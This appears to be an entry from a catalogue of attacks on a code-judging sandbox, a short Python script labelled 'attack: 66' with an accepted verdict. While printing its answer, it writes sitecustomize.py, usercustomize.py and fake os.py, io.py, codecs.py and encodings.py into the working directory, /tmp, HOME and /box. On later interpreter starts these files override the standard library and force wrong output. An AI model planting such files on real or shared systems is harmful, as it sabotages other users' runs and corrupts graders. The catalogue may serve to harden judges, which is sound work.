# Leaves modules that the next start of the interpreter would find before its own.
# attack: 66
# verdict: AC
import os
import sys

n = input()
shadowed = any(hasattr(module, "agon_left") for module in list(sys.modules.values()))
print(-1 if shadowed else n)
for folder in [".", "/tmp", os.environ.get("HOME", "."), "/box"]:
    for name in ["sitecustomize.py", "usercustomize.py", "encodings.py", "os.py", "codecs.py", "io.py"]:
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write("agon_left = 1\nprint(-1)\n")
        except OSError:
            pass
